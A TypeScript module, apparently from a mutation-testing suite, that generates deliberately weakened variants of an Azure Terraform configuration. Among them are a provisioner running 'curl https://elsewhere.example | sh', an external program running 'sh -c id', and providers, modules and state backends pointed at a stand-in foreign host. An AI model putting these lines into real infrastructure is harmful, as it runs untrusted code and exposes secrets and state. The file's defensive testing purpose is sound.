import { EDGE, NETWORK, RIGHTS, WORKLOADS } from './azure/access';
import { added } from './azure/added';
import { OPERATION } from './azure/operation';
import { changesBy, GONE, readable, replacements } from './azure/places';
import { POLICY } from './azure/policy';
import { STORES } from './azure/stores';
import { Mutant } from './environments';

/** What protects nothing by itself: without it something cannot be made, has no name, or may do less. */
const NO_PROTECTION = [
  'azurerm_role_assignment', 'azurerm_cosmosdb_sql_role_assignment', 'azurerm_postgresql_flexible_server_database', 'azurerm_cosmosdb_sql_database', 'azurerm_cosmosdb_sql_container', 'azurerm_dns_txt_record', 'azurerm_dns_cname_record', 'azurerm_private_dns_a_record',
];

/** Resources taken out. */
function removed(terraform: any): Mutant[] {
  return Object.entries<any>(terraform.resource).filter(([type]) => !NO_PROTECTION.includes(type)).flatMap(([type, named]) => Object.keys(named).filter((name) => !name.includes('_login-')).map((name): Mutant => ({
    about: type, name: `${type}.${readable(name)} removed`, mutate: (tf) => { delete tf.resource[type][name]; },
  })));
}

/** Regions that the landing zone does not have, and tags that nobody finds any more. */
function everywhere(terraform: any): Mutant[] {
  const having = (argument: string) => Object.entries<any>(terraform.resource)
    .filter(([, named]) => Object.values<any>(named).some((body) => body[argument] !== undefined)).map(([type]) => type);
  return [
    ...changesBy(terraform, Object.fromEntries(having('location').map((type) => [type, { location: [(old?: string) => (old ? 'eastus' : undefined)] }]))),
    ...changesBy(terraform, Object.fromEntries(having('tags').map((type) => [type, { tags: [GONE] }]))),
    ...changesBy(terraform, { azurerm_storage_account: { 'tags.*': [GONE], 'tags.data-classification': ['public'] } }),
  ];
}

/** Settings beside the resources. */
const AROUND: { readonly [what: string]: (tf: any) => void } = {
  ...Object.fromEntries(['api_management.purge_soft_delete_on_destroy', 'key_vault.purge_soft_delete_on_destroy', 'key_vault.purge_soft_deleted_keys_on_destroy', 'key_vault.purge_soft_deleted_secrets_on_destroy', 'log_analytics_workspace.permanently_delete_on_destroy', 'template_deployment.delete_nested_items_during_deletion']
    .map((place) => [`provider ${place} -> true`, (tf: any) => { const [block, name] = place.split('.'); tf.provider.azurerm[0].features[0][block][0][name] = true; }])),
  'provider resource_group.prevent_deletion_if_contains_resources -> false': (tf) => { tf.provider.azurerm[0].features[0].resource_group[0].prevent_deletion_if_contains_resources = false; },
  'provider storage_use_azuread -> false': (tf) => { tf.provider.azurerm[0].storage_use_azuread = false; },
  'provider client_secret written': (tf) => { tf.provider.azurerm[0].client_secret = 'correct-horse-battery-staple'; },
  'provider of another subscription': (tf) => { tf.provider.azurerm[0].subscription_id = '00000000-0000-0000-0000-000000000009'; },
  'provider version of any kind': (tf) => { tf.terraform.required_providers.azurerm.version = '>= 3.0'; },
  'provider from elsewhere': (tf) => { tf.terraform.required_providers.azurerm.source = 'elsewhere.example/mallory/azurerm'; },
  'any Terraform': (tf) => { delete tf.terraform.required_version; },
  'state by a key': (tf) => { tf.terraform.backend.azurerm.use_azuread_auth = false; },
  'the key of the state written': (tf) => { tf.terraform.backend.azurerm.access_key = 'Y29ycmVjdC1ob3JzZS1iYXR0ZXJ5LXN0YXBsZQ=='; },
  'state on the machine': (tf) => { tf.terraform.backend = { local: { path: 'terraform.tfstate' } }; },
  'state of somebody else': (tf) => { tf.terraform.backend = { http: { address: 'http://elsewhere.example/state' } }; },
  'variable image_orders_service: no check': (tf) => { delete tf.variable.image_orders_service.validation; },
  'variable image_orders_service: a check that all pass': (tf) => { tf.variable.image_orders_service.validation[0].condition = '${true}'; },
  'variable image_orders_service: by tag': (tf) => { tf.variable.image_orders_service.default = 'acmeeuazureh4ys95.azurecr.io/orders:latest'; },
  'variable psql_digest: no check': (tf) => { delete tf.variable.psql_digest.validation; },
  'variable with a password': (tf) => { tf.variable.database_password = { default: 'correct-horse-battery-staple' }; },
  'output of a connection string': (tf) => { tf.output.items = { value: `\${azurerm_cosmosdb_account.${Object.keys(tf.resource.azurerm_cosmosdb_account)[0]}.primary_key}` }; },
  'a program when it is applied': (tf) => { Object.values<any>(tf.resource.azurerm_storage_account)[0].provisioner = [{ 'local-exec': { command: 'curl https://elsewhere.example | sh' } }]; },
  'data of a program': (tf) => { tf.data = { external: { run: { program: ['sh', '-c', 'id'] } } }; },
  'a module from elsewhere': (tf) => { tf.module = { more: { source: 'git::https://elsewhere.example/module.git' } }; },
};

/** Everything that makes the example's production environment on Azure weaker. */
export function weakenings(terraform: any): Mutant[] {
  return [
    ...[STORES, OPERATION, RIGHTS, NETWORK, WORKLOADS, EDGE].flatMap((table) => changesBy(terraform, table)),
    ...replacements(terraform, 'azurerm_api_management_api_policy', 'xml_content', POLICY),
    ...removed(terraform),
    ...everywhere(terraform),
    ...added,
    ...Object.entries(AROUND).map(([name, mutate]): Mutant => ({ name, mutate })),
  ];
}
